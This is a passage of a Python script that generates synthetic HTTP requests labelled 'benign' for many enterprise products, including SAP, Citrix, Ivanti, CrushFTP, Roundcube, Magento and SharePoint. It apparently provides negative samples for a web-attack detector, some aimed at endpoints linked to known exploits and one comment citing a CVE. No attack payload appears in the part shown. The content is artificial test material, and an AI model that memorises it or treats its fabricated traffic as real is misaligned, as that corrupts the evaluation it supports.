                           "/en/pricing", "/de/kontakt", "/account/orders"])
        g.add(B, T, "GET", path, H, [("Accept-Language", "en-US,en;q=0.9"), ("Cookie", f"_ga=GA1.1.{g.r.randrange(10**9)}.{g.r.randrange(10**9)}; theme=dark")],
              accept=HTML_ACCEPT)
    for i in range(8):
        path = g.r.choice(["/products", "/blog", "/account/orders", "/dashboard", "/settings/profile"])
        tree = q(jd(["", {"children": [path.strip("/").split("/")[0], {"children": ["__PAGE__", {}, None, None]}, None, None]}, None, None, True]))
        g.add(B, T, "GET", path + "?_rsc=" + g.alnum(5).lower(), H,
              [("RSC", "1"), ("Next-Router-State-Tree", tree), ("Next-Url", path), ("Accept", "*/*")])
    for i in range(6):
        g.add(B, T, "GET", g.r.choice(["/_next/static/chunks/app/layout-", "/_next/static/chunks/pages/_app-", "/_next/static/css/"]) + g.hexs(16) + g.r.choice([".js", ".css"]),
              H, [("Referer", "https://www.example.com/")])
    for i in range(5):
        img = q("/images/" + g.r.choice(["hero", "team", "product", "banner"]) + "-" + str(i) + ".jpg")
        g.add(B, T, "GET", f"/_next/image?url={img}&w={g.r.choice([640, 750, 1080, 1920])}&q=75", H,
              accept="image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8")
    # server actions (JSON encoded args and multipart)
    for i in range(6):
        args = g.r.choice([[{"email": email(g), "newsletter": True}], ["add-to-cart", g.r.randrange(1000, 9999), 2],
                           [{"q": g.r.choice(SEARCHES)}], ["$undefined", {"rating": 4, "comment": "Great fit, a bit warm for spring."}]])
        g.add(B, T, "POST", g.r.choice(["/", "/products", "/contact"]), H,
              [("Next-Action", g.hexs(40)), ("Next-Router-State-Tree", q('["",{"children":["__PAGE__",{},null,null]},null,null,true]')),
               ("Accept", "text/x-component"), ("Origin", "https://" + H)],
              body=jd(args), ctype="text/plain;charset=UTF-8")
    for i in range(5):
        f, l = name(g)
        aid = g.hexs(40)
        body, ct = multipart([(f"1_$ACTION_ID_{aid}", ""), ("1_name", f"{f} {l}"), ("1_email", email(g)),
                              ("1_message", "Hi, could you tell me when the " + g.r.choice(PRODUCTS) + " is back in stock? Thanks!"),
                              ("0", '["$K1"]')], g.wk_boundary())
        g.add(B, T, "POST", "/contact", H, [("Next-Action", aid), ("Accept", "text/x-component"), ("Origin", "https://" + H)],
              body=body, ctype=ct)
    for i in range(4):
        g.add(B, T, "POST", "/api/newsletter", H, body=jd({"email": email(g), "locale": g.r.choice(["en", "de", "fr", "pt-BR"])}),
              ctype=JSON_CT, accept="application/json")
    # CVE-2025-29927 patched proxies still see ordinary prefetch headers
    g.add(B, T, "GET", "/dashboard?_rsc=" + g.alnum(5).lower(), "app.example.com",
          [("RSC", "1"), ("Next-Router-Prefetch", "1"), ("Purpose", "prefetch"), ("Cookie", "session=" + sess(g, 48))])


def ben_tomcat(g):
    H = "tomcat.example.com"
    B, T = "benign", "tomcat"
    auth = ("Authorization", "Basic " + b64("tomcat-admin:" + g.alnum(16)))
    g.add(B, T, "GET", "/manager/html", H, [auth], accept=HTML_ACCEPT)
    g.add(B, T, "GET", "/manager/text/list", H, [auth], ua=g.tool(), accept="text/plain")
    g.add(B, T, "GET", "/manager/html/sessions?path=/shop&sort=lastAccessedTime&order=DESC", H, [auth], accept=HTML_ACCEPT)
    g.add(B, T, "GET", "/manager/status?XML=true", H, [auth], ua="Prometheus/2.53.0")
    g.add(B, T, "POST", "/manager/html/reload?path=/shop&org.apache.catalina.filters.CSRF_NONCE=" + g.hexs(32).upper(), H, [auth],
          body="", ctype=FORM)
    for i in range(4):
        g.add(B, T, "POST", "/shop/j_security_check", H, [("Cookie", "JSESSIONID=" + g.hexs(32).upper())],
              body=form([("j_username", email(g)), ("j_password", g.alnum(12) + "!")]), ctype=FORM, accept=HTML_ACCEPT)
    for i in range(5):
        g.add(B, T, "GET", f"/shop/catalog.jsp?category={g.r.choice(['shoes', 'outdoor', 'kitchen'])}&page={g.r.randrange(1, 9)}", H,
              [("Cookie", "JSESSIONID=" + g.hexs(32).upper())], accept=HTML_ACCEPT)
    body = "Tomcat WebDAV note: quarterly report draft v3\n"
    g.add(B, T, "PUT", "/webdav/reports/q3-draft.txt", H, [auth], body=body, ctype="text/plain", ua="Microsoft-WebDAV-MiniRedir/10.0.19045")
    g.add(B, T, "GET", "/shop/;jsessionid=" + g.hexs(32).upper() + "?lang=en", H, accept=HTML_ACCEPT)


def ben_sap(g):
    H = "sap.example.com"
    B, T = "benign", "sap-netweaver"
    for i in range(6):
        flt = g.r.choice(["BusinessPartnerCategory eq '1'", "CreationDate ge datetime'2025-01-01T00:00:00'",
                          "substringof('GmbH',OrganizationBPName1)", "Country eq 'DE' and CityName eq 'Berlin'"])
        g.add(B, T, "GET", "/sap/opu/odata/sap/API_BUSINESS_PARTNER/A_BusinessPartner?$filter=" + q(flt) +
              f"&$top={g.r.choice([10, 25, 50])}&$skip=0&$format=json&$select=BusinessPartner,BusinessPartnerFullName",
              H, [("sap-client", "100"), ("Authorization", "Basic " + b64("SVC_FIORI:" + g.alnum(14)))], accept="application/json")
    g.add(B, T, "GET", "/irj/portal", H, [("Cookie", "MYSAPSSO2=" + g.alnum(120) + "%3d; saplb_*=(J2EE1234520)1234551")], accept=HTML_ACCEPT)
    g.add(B, T, "GET", "/sap/bc/ui5_ui5/ui2/ushell/shells/abap/FioriLaunchpad.html?sap-client=100&sap-language=EN", H, accept=HTML_ACCEPT)
    g.add(B, T, "POST", "/sap/opu/odata/sap/ZPURCHASE_SRV/$batch", H,
          [("x-csrf-token", g.alnum(24) + "=="), ("sap-client", "100")],
          body="--batch_1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\nGET PurchaseOrders?$top=20 HTTP/1.1\r\nAccept: application/json\r\n\r\n\r\n--batch_1--\r\n",
          ctype="multipart/mixed;boundary=batch_1")
    g.add(B, T, "POST", "/sap/opu/odata/sap/ZPURCHASE_SRV/PurchaseOrders", H, [("x-csrf-token", g.alnum(24) + "=="), ("sap-client", "100")],
          body=jd({"Supplier": "100042", "CompanyCode": "1010", "Items": [{"Material": "TG11", "Quantity": "12", "Plant": "1010"}]}),
          ctype=JSON_CT, accept="application/json")
    g.add(B, T, "GET", "/developmentserver/metadatauploader", H, [("Authorization", "Basic " + b64("VCADMIN:" + g.alnum(12)))], accept=HTML_ACCEPT)
    body, ct = multipart([("file", "<?xml version=\"1.0\"?><model name=\"SalesDashboard\"><component id=\"chart1\" type=\"bar\"/></model>",
                           "SalesDashboard.xml", "text/xml")], g.wk_boundary())
    g.add(B, T, "POST", "/developmentserver/metadatauploader?CONTENT=MODEL&MODEL_NAME=SalesDashboard", H,
          [("Authorization", "Basic " + b64("VCADMIN:" + g.alnum(12)))], body=body, ctype=ct)
    g.add(B, T, "GET", "/sap/bc/gui/sap/its/webgui?sap-client=100&~transaction=VA03", H, accept=HTML_ACCEPT)


def ben_gateways(g):
    B = "benign"
    H = "gateway.example.com"
    for i in range(4):
        g.add(B, "citrix-netscaler", "POST", "/p/u/doAuthentication.do", H, [("Cookie", "NSC_TASS=" + g.alnum(20) + "; NSC_PERS=" + g.alnum(20))],
              body=form([("login", email(g).split("@")[0]), ("passwd", g.alnum(12)), ("savecredentials", "false"),
                         ("nsg-x1-logon-button", "Log On"), ("StateContext", "")]), ctype=FORM, accept="application/xml, text/xml, */*; q=0.01")
    g.add(B, "citrix-netscaler", "GET", "/logon/LogonPoint/tmindex.html", H, accept=HTML_ACCEPT)
    g.add(B, "citrix-netscaler", "GET", "/vpn/index.html", H, accept=HTML_ACCEPT)
    g.add(B, "citrix-netscaler", "POST", "/cgi/selfauth", H,
          body=form([("login", "jdoe"), ("passwd", g.alnum(12)), ("passwd1", "482913")]), ctype=FORM, accept=HTML_ACCEPT)
    H = "vpn.example.com"
    g.add(B, "ivanti-connect-secure", "GET", "/dana-na/auth/url_default/welcome.cgi", H, [("X-Forwarded-For", "198.51.100.23")], accept=HTML_ACCEPT)
    for i in range(3):
        g.add(B, "ivanti-connect-secure", "POST", "/dana-na/auth/url_default/login.cgi", H,
              [("X-Forwarded-For", f"198.51.100.{g.r.randrange(2, 250)}, 10.0.{g.r.randrange(0, 9)}.{g.r.randrange(2, 250)}")],
              body=form([("tz_offset", "60"), ("clientMAC", ""), ("username", email(g).split("@")[0]), ("password", g.alnum(14)),
                         ("realm", "Users"), ("btnSubmit", "Sign In")]), ctype=FORM, accept=HTML_ACCEPT)
    H = "mdm.example.com"
    for i in range(6):
        g.add(B, "ivanti-epmm", "GET", g.r.choice([
            "/mifs/rs/api/v2/featureusage?adminDeviceSpaceId=1&format=json",
            "/mifs/rs/api/v2/featureusage_history?adminDeviceSpaceId=1&format=csv",
            "/api/v2/devices?adminDeviceSpaceId=1&fields=common.model,common.os_version&query=" + q('"common.platform" = "iOS"') + "&limit=50",
            "/api/v2/devices/count?adminDeviceSpaceId=1&query=" + q('"common.status" = "ACTIVE"'),
            "/mifs/admin/rest/api/v2/ldap/users?adminDeviceSpaceId=1&query=" + q("smith"),
            "/api/v2/device/registration?adminDeviceSpaceId=1"]), H,
            [("Authorization", "Basic " + b64("api-user:" + g.alnum(16)))], ua=g.tool(), accept="application/json")
    H = "waf.example.com"
    fwauth = b64(jdp({"username": "admin", "password": g.alnum(14), "vdom": "root"}))
    for uri in ["/api/v2.0/system/status.systemstatus", "/api/v2.0/cmdb/server-policy/policy", "/api/v2.0/log/traffic.logs?page=1&size=50",
                "/api/v2.0/cmdb/system/admin"]:
        g.add(B, "fortiweb", "GET", uri, H, [("Authorization", fwauth)], ua=g.tool(), accept="application/json")
    g.add(B, "fortiweb", "POST", "/api/v2.0/cmdb/server-policy/server-pool", H, [("Authorization", fwauth)],
          body=jdp({"data": {"name": "web-pool-2", "type": "reverse-proxy", "server-balance": "enable", "health": "HLTHCK_HTTP"}}),
          ctype=JSON_CT, ua=g.tool())
    g.add(B, "fortiweb", "GET", "/api/fabric/device/status", H, [("Authorization", "Bearer " + g.alnum(30))], ua="FortiOS/7.4")
    H = "sslvpn.example.com"
    g.add(B, "sonicwall-sma", "GET", "/cgi-bin/welcome", H, accept=HTML_ACCEPT)
    g.add(B, "sonicwall-sma", "POST", "/cgi-bin/userLogin", H,
          body=form([("username", "jdoe"), ("password", g.alnum(12)), ("domain", "LocalDomain"), ("portalname", "VirtualOffice"), ("ajax", "true")]),
          ctype=FORM, accept="application/json")
    g.add(B, "sonicwall-sma", "GET", "/cgi-bin/sslvpnclient?launchplatform=mac&neProto=3&supportipv6=yes", H,
          [("Cookie", "swap=" + b64(g.alnum(24)))], ua="SonicWALL NetExtender for macOS 10.3.0")
    H = "fw.example.com"
    g.add(B, "panos", "GET", "/php/login.php", H, accept=HTML_ACCEPT)
    g.add(B, "panos", "GET", "/global-protect/login.esp", H, accept=HTML_ACCEPT)
    g.add(B, "panos", "POST", "/global-protect/getconfig.esp", H,
          body=form([("user", "jdoe"), ("passwd", g.alnum(10)), ("portal-userauthcookie", "empty"), ("portal-prelogonuserauthcookie", "empty"),
                     ("prelogin-cookie", ""), ("os-version", "Microsoft Windows 11 Pro , 64-bit"), ("clientos", "Windows"),
                     ("computer", "LAPTOP-" + g.alnum(6).upper()), ("app-version", "6.2.4-30")]), ctype=FORM, ua="PAN GlobalProtect")


def ben_files(g):
    B = "benign"
    H = "files.example.com"
    c2f = g.hexs(4)
    ck = f"CrushAuth=17{g.r.randrange(10**10, 10**11)}_{g.alnum(26)}{c2f}; currentAuth={c2f}"
    g.add(B, "crushftp", "POST", "/WebInterface/function/", H,
          body=form([("command", "login"), ("username", "jdoe"), ("password", g.alnum(12)), ("encoded", "true"),
                     ("language", "en"), ("random", str(g.r.random()))]), ctype=FORM, accept="text/xml")
    for p in ["/", "/Shared/", "/Shared/Finance/2025/", "/Home/Photos/Offsite 2025/"]:
        g.add(B, "crushftp", "POST", "/WebInterface/function/", H, [("Cookie", ck)],
              body=form([("command", "getXMLListing"), ("format", "JSONOBJ"), ("path", p), ("random", str(g.r.random())), ("c2f", c2f)]),
              ctype=FORM, accept="text/xml")
    g.add(B, "crushftp", "POST", "/WebInterface/function/", H, [("Cookie", ck)],
          body=form([("command", "zip"), ("c2f", c2f), ("path", "/Shared/Finance/2025/"), ("names", "/Q1.xlsx:/Q2.xlsx")]), ctype=FORM)
    body, ct = multipart([("the_action", "STOR"), ("uploadPath", "/Shared/Finance/2025/"), ("c2f", c2f),
                          ("file_SINGLE_FILE_POST", "Date,Amount,Vendor\n2025-04-01,1200.50,Acme\n2025-04-03,89.99,Office Co\n", "expenses-april.csv", "text/csv")],
                         g.wk_boundary())
    g.add(B, "crushftp", "POST", "/U/upload", H, [("Cookie", ck)], body=body, ctype=ct)
    g.add(B, "crushftp", "GET", "/WebInterface/function/?command=getUserList&serverGroup=MainUsers&c2f=" + c2f, H,
          [("Cookie", ck)], accept="text/xml")
    H = "share.example.com"
    g.add(B, "gladinet", "GET", "/portal/loginpage.aspx", H, accept=HTML_ACCEPT)
    vs = b64(b"\xff\x01\x0f\x0f\x05\n-1234567890d\x16\x02f\x0fd\x16\x02\x02\x01\x0fd\x16\x02f\x0f\x15" + g.alnum(40).encode())
    g.add(B, "gladinet", "POST", "/portal/loginpage.aspx", H,
          body=form([("__VIEWSTATE", vs), ("__VIEWSTATEGENERATOR", "3FE2630A"), ("__EVENTVALIDATION", b64(g.alnum(60))),
                     ("txtUserName", email(g)), ("txtPassword", g.alnum(12)), ("btnLogin", "Sign In")]), ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, "gladinet", "GET", "/storage/t.dn?s=" + q("\\Team\\Designs\\logo-v2.png") + "&sid=" + g.alnum(20), H, accept="image/*")
    H = "backup.example.com"
    g.add(B, "commvault", "GET", "/commandcenter/#/dashboard", H, accept=HTML_ACCEPT)
    g.add(B, "commvault", "POST", "/commandcenter/api/Login", H,
          body=jd({"username": "backupadmin", "password": b64(g.alnum(12))}), ctype=JSON_CT, accept="application/json")
    g.add(B, "commvault", "GET", "/commandcenter/api/Client?PseudoClientType=VSPseudo", H, [("Authtoken", "QSDK " + g.hexs(64))], accept="application/json")
    H = "mft.example.com"
    g.add(B, "cleo", "GET", "/Synchronization", H, [("VLSync", "Retrieve;path=hosts/;Services;host=" + g.alnum(8))], ua="Cleo VLTrader 5.8")
    H = "support.example.com"
    g.add(B, "simplehelp", "GET", "/toolbox-resource/resource1/icons/tech.png", H, accept="image/*")
    g.add(B, "simplehelp", "GET", "/welcome?lang=en", H, accept=HTML_ACCEPT)


def ben_cms(g):
    B = "benign"
    H = "cms.example.com"
    csrf = g.alnum(40)
    ck = f"CraftSessionId={g.alnum(26)}; CRAFT_CSRF_TOKEN={g.alnum(60)}"
    g.add(B, "craftcms", "POST", "/index.php?p=admin/actions/users/login", H, [("X-CSRF-Token", csrf), ("Cookie", ck), ("Accept", "application/json")],
          body=jd({"loginName": "editor@example.com", "password": g.alnum(14), "rememberMe": True}), ctype=JSON_CT)
    for i in range(4):
        g.add(B, "craftcms", "POST", "/index.php?p=admin/actions/assets/generate-transform", H,
              [("X-CSRF-Token", csrf), ("Cookie", ck), ("X-Requested-With", "XMLHttpRequest"), ("Accept", "application/json")],
              body=jd({"assetId": g.r.randrange(10, 999), "handle": g.r.choice(["thumb", "hero", {"width": 300, "height": 200, "mode": "crop", "position": "center-center"},
                                                                        {"width": 1200, "format": "webp", "quality": 82}])}),
              ctype=JSON_CT)
    for i in range(3):
        title = g.r.choice(["Spring collection launch", "Meet the team: " + " ".join(name(g)), "Store hours over the holidays",
                            "How we source our coffee"])
        g.add(B, "craftcms", "POST", "/index.php?p=admin/actions/entries/save-entry", H, [("Cookie", ck)],
              body=form([("CRAFT_CSRF_TOKEN", csrf), ("entryId", str(g.r.randrange(100, 999))), ("sectionId", "2"),
                         ("title", title), ("slug", title.lower().replace(" ", "-").replace(":", "")),
                         ("fields[summary]", "A short summary of " + title.lower() + "."),
                         ("fields[body]", "<p>We're excited to share <strong>" + title + "</strong> with you.</p><ul><li>Available in stores</li><li>Free shipping over €50</li></ul>"),
                         ("enabled", "1")]), ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, "craftcms", "POST", "/api", "cms.example.com", [("Authorization", "Bearer " + g.alnum(32))],
          body=jd({"query": "query Entries($limit:Int){ entries(section:\"blog\", limit:$limit){ title url postDate @formatDateTime(format:\"Y-m-d\") } }",
                   "variables": {"limit": 10}}), ctype=JSON_CT, accept="application/json")
    g.add(B, "craftcms", "GET", "/blog?page=2&tag=" + q("coffee & tea"), H, accept=HTML_ACCEPT)
    H = "wiki.example.com"
    ck = "JSESSIONID=" + g.hexs(32).upper() + "; username=" + g.alnum(30) + "; password=" + g.alnum(30)
    for page in ["Main.WebHome", "Engineering.Onboarding", "HR.Holidays2025", "Ops.OnCall"]:
        sp, pg = page.split(".")
        g.add(B, "xwiki", "GET", f"/xwiki/bin/view/{sp}/{pg}", H, [("Cookie", ck)], accept=HTML_ACCEPT)
    for t in ["onboarding checklist", "vpn setup", "holiday calendar", "release notes 4.2"]:
        g.add(B, "xwiki", "GET", "/xwiki/bin/get/Main/SolrSearch?media=rss&text=" + qp(t), H, accept="application/rss+xml")
        g.add(B, "xwiki", "GET", "/xwiki/bin/view/Main/Search?text=" + qp(t) + "&f_type=DOCUMENT&f_locale=en", H, [("Cookie", ck)], accept=HTML_ACCEPT)
    pages = [
        ("HR", "Holidays2025", "= Public holidays 2025 =\n\n{{toc/}}\n\n|=Date|=Holiday|=Offices\n|1 Jan|New Year|All\n|18 Apr|Good Friday|Berlin, London\n\n{{info}}Bridge days are announced in the team channel.{{/info}}"),
        ("Engineering", "Onboarding", "= Welcome =\n\n1. Request laptop from **IT**\n1. Join the //#eng-general// channel\n1. Read [[Coding guidelines>>Engineering.Guidelines]]\n\n{{warning}}Never share your VPN token.{{/warning}}"),
        ("Ops", "OnCall", "== Rotation ==\n\n{{velocity}}$xwiki.getUserName($xcontext.user){{/velocity}} is on call this week.\n\n* Escalate after 15 min\n* Page the secondary via PagerDuty"),
        ("Team", "Minutes-2025-05-14", "= Team sync =\n\n**Attendees:** Anna, Ben, Farid\n\n* Roadmap Q3: agreed\n* {{mention reference=\"XWiki.ben\"/}} to update the budget sheet\n\n{{include reference=\"Team.Template\"/}}"),
    ]
    for sp, pg, content in pages:
        g.add(B, "xwiki", "POST", f"/xwiki/bin/save/{sp}/{pg}", H, [("Cookie", ck)],
              body=form([("form_token", g.alnum(22)), ("title", pg.replace("-", " ")), ("content", content), ("syntaxId", "xwiki/2.1"),
                         ("comment", "minor edits"), ("minorEdit", "1"), ("xredirect", f"/xwiki/bin/view/{sp}/{pg}")]),
              ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, "xwiki", "GET", "/xwiki/rest/liveData/sources/liveTable/entries?sourceParams.template=getdocuments.vm&sort=doc.date&descending=true&offset=0&limit=15",
          H, [("Cookie", ck)], accept="application/json")
    g.add(B, "xwiki", "PUT", "/xwiki/rest/wikis/xwiki/spaces/Main/pages/Status", H, [("Authorization", "Basic " + b64("bot:" + g.alnum(12)))],
          body="Build #4812 green. Deployed to staging at 14:02 UTC.", ctype="text/plain", ua=g.tool())


def ben_roundcube(g):
    B, T = "benign", "roundcube"
    H = "mail.example.com"
    ck = f"roundcube_sessid={g.alnum(26)}; roundcube_sessauth={g.alnum(40)}-{g.r.randrange(10**9)}"
    tok = g.alnum(32)
    g.add(B, T, "POST", "/?_task=login", H, [("Cookie", "roundcube_sessid=" + g.alnum(26))],
          body=form([("_token", tok), ("_task", "login"), ("_action", "login"), ("_timezone", "Europe/Berlin"),
                     ("_url", "_task=mail"), ("_user", email(g)), ("_pass", g.alnum(14))]), ctype=FORM, accept=HTML_ACCEPT)
    for i in range(4):
        g.add(B, T, "GET", f"/?_task=mail&_action=list&_mbox=INBOX&_page={i + 1}&_remote=1&_unlock=loading{g.r.randrange(10**12, 10**13)}&_={g.r.randrange(10**12, 10**13)}",
              H, [("Cookie", ck), ("X-Roundcube-Request", tok), ("X-Requested-With", "XMLHttpRequest")], accept="application/json, text/javascript, */*; q=0.01")
    for i in range(3):
        g.add(B, T, "GET", f"/?_task=mail&_mbox=INBOX&_uid={g.r.randrange(100, 9999)}&_action=show", H, [("Cookie", ck)], accept=HTML_ACCEPT)
    for i in range(3):
        f, l = name(g)
        html = ("<div style=\"font-family: Arial, sans-serif; font-size: 14px;\"><p>Hi " + f + ",</p>"
                "<p>please find the agenda for Thursday below:</p><ol><li>Welcome &amp; intros</li><li>Q3 numbers</li>"
                "<li>Hiring plan</li></ol><table border=\"1\" cellpadding=\"4\" style=\"border-collapse:collapse\"><tr><th>Time</th><th>Topic</th></tr>"
                "<tr><td>10:00</td><td>Kick-off</td></tr><tr><td>10:30</td><td>Break</td></tr></table>"
                "<p>Best regards,<br>" + " ".join(name(g)) + "</p><p><a href=\"https://intranet.example.com/agenda?id=42&amp;lang=en\">Open in intranet</a></p></div>")
        g.add(B, T, "POST", f"/?_task=mail&_unlock=loading{g.r.randrange(10**12, 10**13)}&_framed=1&_lang=en", H, [("Cookie", ck)],
              body=form([("_token", tok), ("_task", "mail"), ("_action", "send"), ("_id", g.hexs(26)), ("_attachments", ""),
                         ("_from", str(g.r.randrange(1, 4))), ("_to", f"{f} {l} <{email(g)}>"), ("_cc", ""), ("_bcc", ""),
                         ("_replyto", ""), ("_followupto", ""), ("_subject", "Agenda for Thursday – " + g.r.choice(WORDS)),
                         ("editorSelector", "html"), ("_priority", "0"), ("_store_target", "Sent"), ("_draft_saveid", ""),
                         ("_draft", ""), ("_is_html", "1"), ("_framed", "1"), ("_message", html)]), ctype=FORM)
    body, ct = multipart([("_file[]", "%PDF-1.4\n% report\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n", "Q3-report (final).pdf", "application/pdf")],
                         g.wk_boundary())
    g.add(B, T, "POST", f"/?_task=mail&_id={g.hexs(26)}&_uploadid=upload{g.r.randrange(10**12, 10**13)}&_from=compose&_action=upload", H,
          [("Cookie", ck), ("X-Roundcube-Request", tok)], body=body, ctype=ct)
    png = "\x89PNG"  # placeholder avatar content as text
    body, ct = multipart([("_file[]", png + "avatar", "me.png", "image/png")], g.wk_boundary())
    g.add(B, T, "POST", f"/?_from=edit-identity&_task=settings&_framed=1&_remote=1&_id=1&_uploadid=upload{g.r.randrange(10**12, 10**13)}&_action=upload",
          H, [("Cookie", ck), ("X-Roundcube-Request", tok)], body=body, ctype=ct)
    g.add(B, T, "POST", "/?_task=settings&_action=save-prefs", H, [("Cookie", ck)],
          body=form([("_token", tok), ("_section", "general"), ("_language", "de_DE"), ("_timezone", "Europe/Berlin"),
                     ("_time_format", "H:i"), ("_date_format", "Y-m-d"), ("_pretty_date", "1"), ("_refresh_interval", "5")]),
          ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, T, "GET", "/?_task=addressbook&_action=search&_q=" + qp("müller") + "&_source=0&_remote=1", H, [("Cookie", ck), ("X-Roundcube-Request", tok)],
          accept="application/json")
    g.add(B, T, "GET", "/?_task=mail&_action=search&_q=" + qp("invoice 2025") + "&_headers=text&_scope=base&_mbox=INBOX&_filter=ALL&_remote=1", H,
          [("Cookie", ck), ("X-Roundcube-Request", tok)], accept="application/json")


def ben_magento(g):
    B, T = "benign", "magento"
    H = "shop.example.com"
    for i in range(5):
        g.add(B, T, "GET", "/catalogsearch/result/?q=" + qp(g.r.choice(SEARCHES)), H, [("Cookie", f"PHPSESSID={g.alnum(26).lower()}; form_key={g.alnum(16)}")],
              accept=HTML_ACCEPT)
    for i in range(4):
        g.add(B, T, "POST", "/graphql", H, [("Store", "default"), ("Content-Currency", "EUR")],
              body=jd({"query": "query($s:String!){products(search:$s,pageSize:12){items{sku name price_range{minimum_price{final_price{value currency}}}}total_count}}",
                       "variables": {"s": g.r.choice(SEARCHES)}}), ctype=JSON_CT, accept="application/json")
    cart = g.alnum(32)
    g.add(B, T, "POST", "/rest/default/V1/guest-carts", H, body="", ctype=JSON_CT, accept="application/json")
    for i in range(3):
        g.add(B, T, "POST", f"/rest/default/V1/guest-carts/{cart}/items", H,
              body=jd({"cartItem": {"sku": "MB-" + g.alnum(4).upper(), "qty": g.r.randrange(1, 4), "quote_id": cart}}), ctype=JSON_CT, accept="application/json")
    f, l = name(g)
    addr = {"region": "Berlin", "region_id": 82, "region_code": "BER", "country_id": "DE", "street": ["Friedrichstraße 123", "Hinterhaus, 3. OG"],
            "postcode": "10117", "city": "Berlin", "firstname": f, "lastname": l, "telephone": "+49 30 1234567", "email": email(g)}
    g.add(B, T, "POST", f"/rest/default/V1/guest-carts/{cart}/estimate-shipping-methods", H, body=jd({"address": addr}), ctype=JSON_CT, accept="application/json")
    g.add(B, T, "POST", f"/rest/default/V1/guest-carts/{cart}/shipping-information", H,
          body=jd({"addressInformation": {"shipping_address": addr, "billing_address": addr, "shipping_method_code": "flatrate", "shipping_carrier_code": "flatrate",
                                          "extension_attributes": {}}}), ctype=JSON_CT, accept="application/json")
    g.add(B, T, "POST", f"/rest/default/V1/guest-carts/{cart}/payment-information", H,
          body=jd({"cartId": cart, "billingAddress": addr, "paymentMethod": {"method": "checkmo", "po_number": None, "additional_data": None},
                   "email": addr["email"]}), ctype=JSON_CT, accept="application/json")
    g.add(B, T, "PUT", f"/rest/default/V1/guest-carts/{cart}/order", H,
          body=jd({"paymentMethod": {"method": "braintree", "additional_data": {"payment_method_nonce": g.uuid(), "device_data": jd({"correlation_id": g.hexs(32)})}}}),
          ctype=JSON_CT, accept="application/json")
    body, ct = multipart([("form_key", g.alnum(16)), ("custom_attributes[proof_of_address]", "JFIF-binary-placeholder", "utility-bill-march.jpg", "image/jpeg")],
                         g.wk_boundary())
    g.add(B, T, "POST", "/customer/address_file/upload", H, [("Cookie", f"PHPSESSID={g.alnum(26).lower()}")], body=body, ctype=ct)
    g.add(B, T, "GET", "/rest/V1/products?searchCriteria[filterGroups][0][filters][0][field]=name&searchCriteria[filterGroups][0][filters][0][value]="
          + q("%jacket%") + "&searchCriteria[filterGroups][0][filters][0][conditionType]=like&searchCriteria[pageSize]=20", H,
          [("Authorization", "Bearer " + g.alnum(32))], ua=g.tool(), accept="application/json")
    g.add(B, T, "POST", "/customer/account/loginPost/", H, [("Cookie", f"PHPSESSID={g.alnum(26).lower()}; form_key={g.alnum(16)}")],
          body=form([("form_key", g.alnum(16)), ("login[username]", email(g)), ("login[password]", g.alnum(12)), ("send", "")]), ctype=FORM,
          accept=HTML_ACCEPT)
    g.add(B, T, "POST", "/review/product/post/id/" + str(g.r.randrange(100, 999)) + "/", H,
          body=form([("form_key", g.alnum(16)), ("ratings[4]", "19"), ("nickname", f), ("title", "Love it"),
                     ("detail", "Fits true to size. Colour is slightly darker than the photo, but I'd buy again! 5/5")]), ctype=FORM, accept=HTML_ACCEPT)


def ben_dotnet(g):
    B = "benign"
    H = "www.example.com"
    for i in range(4):
        g.add(B, "sitecore", "GET", "/sitecore/api/layout/render/jss?item=" + q(g.r.choice(["/", "/about", "/products/widgets", "/news/2025/launch"]))
              + "&sc_apikey=" + q("{" + g.uuid().upper() + "}") + "&sc_lang=" + g.r.choice(["en", "de-DE", "ja-JP"]), H, accept="application/json")
    vs = "/wEPDwUKMTY3ODU" + g.alnum(30) + "ZGQ" + g.alnum(24) + "="
    g.add(B, "sitecore", "POST", "/sitecore/login", H,
          body=form([("__VIEWSTATE", vs), ("__VIEWSTATEGENERATOR", "CA0B0334"), ("__EVENTVALIDATION", "/wEdAAX" + g.alnum(60)),
                     ("UserName", "content.editor"), ("Password", g.alnum(12)), ("ActionLogin", "Log in")]), ctype=FORM, accept=HTML_ACCEPT)
    g.add(B, "sitecore", "POST", "/api/sitecore/Form/Submit", H,
          body=form([("__RequestVerificationToken", g.alnum(90)), ("FormItemId", "{" + g.uuid().upper() + "}"),
                     ("Fields[0].Value", " ".join(name(g))), ("Fields[1].Value", email(g)),
                     ("Fields[2].Value", "I'd like a quote for 40 seats, starting in July.")]), ctype=FORM, accept=HTML_ACCEPT)
    H = "sharepoint.example.com"
    g.add(B, "sharepoint", "GET", "/sites/hr/_api/web/lists/getbytitle('Documents')/items?$select=Title,Modified&$top=50&$orderby=Modified%20desc",
          H, [("Accept", "application/json;odata=nometadata"), ("Cookie", "FedAuth=" + g.alnum(120))])
    g.add(B, "sharepoint", "POST", "/sites/hr/_api/contextinfo", H, [("Accept", "application/json;odata=verbose"), ("Cookie", "FedAuth=" + g.alnum(120))],
          body="", ctype="application/json;odata=verbose")
    g.add(B, "sharepoint", "POST", "/sites/hr/_api/web/lists/getbytitle('Tasks')/items", H,
          [("Accept", "application/json;odata=verbose"), ("X-RequestDigest", "0x" + g.hexs(128).upper() + ",14 May 2025 09:12:33 -0000"), ("Cookie", "FedAuth=" + g.alnum(120))],
          body=jd({"__metadata": {"type": "SP.Data.TasksListItem"}, "Title": "Prepare onboarding pack", "DueDate": "2025-06-01T00:00:00Z"}),
          ctype="application/json;odata=verbose")
    g.add(B, "sharepoint", "GET", "/_layouts/15/SignOut.aspx", H, [("Cookie", "FedAuth=" + g.alnum(120))], accept=HTML_ACCEPT)
    g.add(B, "sharepoint", "GET", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&ID=" + str(g.r.randrange(2, 40)) + "&pagemode=edit", H,
          [("Cookie", "FedAuth=" + g.alnum(120)), ("Referer", "https://sharepoint.example.com/sites/hr/SitePages/Home.aspx")], accept=HTML_ACCEPT)
    g.add(B, "sharepoint", "GET", "/sites/hr/_layouts/15/search.aspx?q=" + qp("holiday request form"), H, [("Cookie", "FedAuth=" + g.alnum(120))], accept=HTML_ACCEPT)


def ben_pbx_erp(g):
    B = "benign"
    H = "pbx.example.com"
